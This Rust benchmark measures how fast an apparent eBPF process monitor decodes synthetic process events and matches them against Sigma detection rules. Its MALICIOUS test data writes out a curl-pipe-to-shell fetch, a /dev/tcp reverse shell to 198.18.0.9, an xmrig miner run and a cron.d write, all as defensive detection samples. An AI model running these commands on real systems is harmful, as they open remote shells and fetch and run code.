//! How many process events per second the userspace side handles with the rules evaluated: the
//! records the kernel writes into the ring buffer (`ironpost_process_monitor::encode`, from a
//! seeded synthetic workload) go through what the daemon does with each one, at full speed, on
//! one thread:
//!
//! 1. `receive`: what `EventReader::next_event` does (decode; for an exec, `/proc/<pid>/cwd`
//!    read, and `/proc/<pid>/exe` for a `/proc/self/exe` re-exec);
//! 2. `RecordBuilder::record`: the process table, the cgroup → container map, the Sigma record
//!    (what the daemon's `process_monitor` module does, `crates/daemon/src/process.rs`; here
//!    without the guard's inventory of container names);
//! 3. `ProcessRecord::describe` and `RuleSet::matches` with the rule library (default: the
//!    repository's `rules/`; `--rules DIR` another, e.g. `testdata/sigmahq/rules/linux`), what
//!    the log pipeline's worker does with each record before thresholds and alerts.
//!
//! Not included: the ring buffer itself, the channel hop to the pipeline, the alerter (only
//! matching records reach it) and the store. Timed in the thread's CPU time
//! (`/proc/thread-self/schedstat`) and in wall time, best of `--rounds` rounds; the stages are
//! also timed alone (receive only; receive + record) so what the rules cost shows.
//!
//!   process_events_bench [--events N] [--rules DIR] [--rounds N] [--seed N]
//!
//! The workload (per process: an exec, sometimes a connect or a watched-file write, an exit) is a
//! build-like mix of compilers, shells, package tools and coreutils, with 1 % of the processes
//! doing what the library's rules look for (a shell under nginx, `curl … | sh`, a reverse shell,
//! `crontab -e`, a mining-pool port, a write under `/etc/cron.d`). Pids are synthetic: the
//! `/proc/<pid>/cwd` lookups fail (ENOENT) as they do for processes gone by the time the reader
//! sees them.

#![allow(clippy::print_stdout)]

use std::hint::black_box;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use ironpost_log_pipeline::rules::{RuleSet, load_dir};
use ironpost_log_pipeline::source::process::RecordBuilder;
use ironpost_process_monitor::{
    Connect, ContainerMap, DEFAULT_TABLE_CAPACITY, Event, FileOpen, ProcessExec, ProcessExit,
    ProcessInfo, ProcessTable, TaskInfo, cgroup2_mounts, encode, receive,
};

const USAGE: &str =
    "usage: process_events_bench [--events N] [--rules DIR] [--rounds N] [--seed N]";

/// xorshift64*: a deterministic workload without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// Long-lived parents seeded into the table: (pid, exe, argv).
const PARENTS: &[(u32, &str, &str)] = &[
    (500, "/usr/sbin/nginx", "nginx: worker process"),
    (600, "/usr/bin/bash", "bash"),
    (700, "/usr/bin/make", "make -j2"),
    (
        800,
        "/usr/bin/python3",
        "python3 /usr/bin/unattended-upgrade",
    ),
];

/// Benign commands: (exe, argv).
const BENIGN: &[(&str, &str)] = &[
    ("/usr/bin/cc", "cc -O2 -c src/main.c -o build/main.o"),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "cc1 -quiet src/util.c -O2",
    ),
    ("/usr/bin/as", "as -o build/util.o /tmp/ccX1.s"),
    (
        "/usr/bin/ld",
        "ld -o build/app build/main.o build/util.o -lc",
    ),
    ("/usr/bin/sed", "sed -e s/@VERSION@/1.2.3/ config.h.in"),
    ("/usr/bin/grep", "grep -q HAVE_FOO config.log"),
    ("/usr/bin/dpkg", "dpkg --status libc6"),
    (
        "/usr/bin/apt-get",
        "apt-get install -y --no-install-recommends libssl-dev",
    ),
    ("/usr/bin/cat", "cat /proc/cpuinfo"),
    ("/usr/bin/ls", "ls -la /var/lib/apt/lists"),
    ("/usr/bin/git", "git rev-parse --short HEAD"),
    (
        "/usr/bin/rustc",
        "rustc --crate-name app --edition=2024 src/main.rs",
    ),
];

/// What a rule of the library looks for: (parent pid, exe, argv, connect, file write).
type Bad = (
    u32,
    &'static str,
    &'static str,
    Option<u16>,
    Option<&'static str>,
);
const MALICIOUS: &[Bad] = &[
    (500, "/bin/sh", "sh -c id;uname -a", None, None),
    (
        600,
        "/bin/sh",
        "sh -c curl -fsSL http://198.18.0.9/x.sh | sh",
        None,
        None,
    ),
    (
        600,
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/198.18.0.9/4444 0>&1",
        Some(4444),
        None,
    ),
    (600, "/usr/bin/crontab", "crontab -e", None, None),
    (600, "/tmp/.x/xmrig", "xmrig -o pool:3333", Some(3333), None),
    (
        600,
        "/usr/bin/tee",
        "tee /etc/cron.d/job",
        None,
        Some("/etc/cron.d/job"),
    ),
];

fn task(pid: u32, ppid: u32, cgroup_id: u64, comm: &str, boot_ns: u64) -> TaskInfo {
    TaskInfo {
        boot_ns,
        cgroup_id,
        pid,
        tid: pid,
        ppid,
        uid: 0,
        gid: 0,
        comm: comm.rsplit('/').next().unwrap_or(comm).into(),
    }
}

/// cgroup ids to attribute events to: this process's own (a host cgroup) and every Docker
/// container's found under the cgroup2 mounts (systemd and cgroupfs drivers).
fn cgroup_ids() -> (u64, Vec<u64>) {
    let own = std::fs::read_to_string("/proc/self/cgroup")
        .ok()
        .and_then(|s| {
            let rel = s.lines().find_map(|l| l.strip_prefix("0::"))?.to_owned();
            let root = cgroup2_mounts().into_iter().next()?;
            std::fs::metadata(root.join(rel.trim_start_matches('/'))).ok()
        })
        .map_or(1, |m| m.ino());
    let mut containers = Vec::new();
    for root in cgroup2_mounts() {
        for dir in ["system.slice", "docker"] {
            let Ok(rd) = std::fs::read_dir(root.join(dir)) else {
                continue;
            };
            for e in rd.flatten() {
                let name = e.file_name().to_string_lossy().into_owned();
                if ((name.starts_with("docker-") && name.ends_with(".scope"))
                    || (dir == "docker" && name.len() == 64))
                    && let Ok(m) = e.metadata()
                {
                    containers.push(m.ino());
                }
            }
        }
    }
    (own, containers)
}

/// The workload: about `events` records as the kernel writes them, and how many processes do
/// something a rule looks for.
fn workload(events: usize, seed: u64, host: u64, containers: &[u64]) -> (Vec<Vec<u8>>, usize) {
    let mut rng = Rng(seed.max(1));
    let mut out = Vec::with_capacity(events + 4);
    let mut bad = 0;
    let mut pid = 10_000u32;
    let mut t = 1_000_000_000u64;
    while out.len() < events {
        pid = if pid >= 4_000_000 { 10_000 } else { pid + 1 };
        t += 50_000;
        let cgroup = if !containers.is_empty() && rng.below(10) < 3 {
            *rng.pick(containers)
        } else {
            host
        };
        let (ppid, exe, argv, port, file) = if rng.below(100) == 0 {
            bad += 1;
            *rng.pick(MALICIOUS)
        } else {
            let (exe, argv) = *rng.pick(BENIGN);
            // Under the shell, make or the upgrader; never under the web server, where any of
            // them is a webshell's doing (SigmaHQ's "Linux Webshell Indicators").
            let ppid = rng.pick(&PARENTS[1..]).0;
            let port = (rng.below(10) == 0).then_some(443);
            let file = (rng.below(20) == 0).then_some("/etc/ld.so.cache~");
            (ppid, exe, argv, port, file)
        };
        let tk = |t| task(pid, ppid, cgroup, exe, t);
        out.push(encode(&Event::Exec(ProcessExec {
            task: tk(t),
            start_boot_ns: t,
            filename: exe.into(),
            filename_truncated: false,
            argv: argv.split(' ').map(str::to_owned).collect(),
            argv_truncated: false,
            argv_unreadable: false,
            cwd: None,
        })));
        if let Some(dport) = port {
            out.push(encode(&Event::Connect(Connect {
                task: tk(t + 1_000),
                daddr: "198.18.0.9"
                    .parse()
                    .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
                dport,
            })));
        }
        if let Some(path) = file {
            out.push(encode(&Event::FileOpen(FileOpen {
                task: tk(t + 2_000),
                path: path.into(),
                open_flags: 0o1101,
            })));
        }
        out.push(encode(&Event::Exit(ProcessExit {
            task: tk(t + 3_000),
            status: 0,
        })));
    }
    (out, bad)
}

fn builder() -> RecordBuilder<()> {
    let mut table = ProcessTable::new(DEFAULT_TABLE_CAPACITY);
    for &(pid, exe, argv) in PARENTS {
        table.insert(ProcessInfo {
            pid,
            ppid: 1,
            uid: 0,
            gid: 0,
            exe: exe.into(),
            argv: argv.split(' ').map(str::to_owned).collect(),
            comm: exe.rsplit('/').next().unwrap_or(exe).into(),
            cgroup_id: 0,
            start_boot_ns: 1,
        });
    }
    RecordBuilder::new(table, ContainerMap::new(), (), Path::new("/etc/passwd"))
}

/// This thread's time on a CPU in nanoseconds.
fn cpu_ns() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

#[derive(Clone, Copy, Default)]
struct Best {
    cpu: f64,
    wall: f64,
}

impl Best {
    fn update(&mut self, n: usize, cpu_start: u64, wall: Duration) {
        let cpu = (cpu_ns().saturating_sub(cpu_start) as f64 / 1e9).max(1e-9);
        self.cpu = self.cpu.max(n as f64 / cpu);
        self.wall = self.wall.max(n as f64 / wall.as_secs_f64().max(1e-9));
    }
}

fn run() -> Result<(), String> {
    let mut events = 500_000usize;
    let mut rules = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules"));
    let mut rounds = 5usize;
    let mut seed = 1u64;
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().ok_or(format!("{flag} needs a value\n{USAGE}"));
        let num = |v: String| v.parse::<u64>().map_err(|e| format!("{flag}: {e}"));
        match flag.as_str() {
            "--events" => events = num(value()?)? as usize,
            "--rules" => rules = value()?.into(),
            "--rounds" => rounds = num(value()?)?.max(1) as usize,
            "--seed" => seed = num(value()?)?,
            _ => return Err(USAGE.into()),
        }
    }
    let loaded = load_dir(&rules);
    let skipped = loaded.errors.len();
    let set = RuleSet::compile(loaded.rules).map_err(|e| format!("{e:?}"))?;
    let (host, containers) = cgroup_ids();
    let (records, bad) = workload(events, seed, host, &containers);
    let n = records.len();

    let (mut recv, mut build, mut full) = (Best::default(), Best::default(), Best::default());
    let (mut produced, mut matched) = (0usize, 0usize);
    let mut hits = std::collections::BTreeMap::<String, usize>::new();
    for round in 0..rounds {
        let (c, w) = (cpu_ns(), Instant::now());
        let mut acc = 0usize;
        for r in &records {
            if let Ok(ev) = receive(r) {
                acc = acc.wrapping_add(ev.task().pid as usize);
            }
        }
        black_box(acc);
        recv.update(n, c, w.elapsed());

        let mut b = builder();
        let (c, w) = (cpu_ns(), Instant::now());
        let mut acc = 0usize;
        for r in &records {
            if let Ok(ev) = receive(r)
                && let Some(rec) = b.record(&ev)
            {
                acc = acc.wrapping_add(rec.command_line.len());
            }
        }
        black_box(acc);
        build.update(n, c, w.elapsed());

        let mut b = builder();
        let mut out = Vec::new();
        let (c, w) = (cpu_ns(), Instant::now());
        produced = 0;
        matched = 0;
        for r in &records {
            if let Ok(ev) = receive(r)
                && let Some(mut rec) = b.record(&ev)
            {
                rec.describe();
                set.matches(&rec, &mut out);
                produced += 1;
                matched += out.len();
                if round == 0 {
                    for rule in &out {
                        *hits.entry(rule.id.clone()).or_default() += 1;
                    }
                }
            }
        }
        full.update(n, c, w.elapsed());
    }
    println!(
        "{n} events ({produced} records for the rules, {} exits), {bad} processes doing what a rule looks for; cgroups: 1 host + {} containers",
        n - produced,
        containers.len()
    );
    println!(
        "{} rules from {} ({skipped} files not loaded); {matched} matches: {hits:?}",
        set.len(),
        rules.display()
    );
    let per = |rate: f64| 1e9 / rate;
    println!("best of {rounds} rounds, events/s per CPU-second (wall clock):");
    for (what, b) in [
        ("receive", recv),
        ("receive + record", build),
        ("receive + record + rules", full),
    ] {
        println!(
            "  {what:<26} {:>10.0} /s ({:.0} /s wall)  {:>7.0} ns/event",
            b.cpu,
            b.wall,
            per(b.cpu)
        );
    }
    println!(
        "  the rules' share: {:.0} ns/event",
        per(full.cpu) - per(build.cpu)
    );
    Ok(())
}

fn main() -> ExitCode {
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("process_events_bench: {e}");
            ExitCode::FAILURE
        }
    }
}
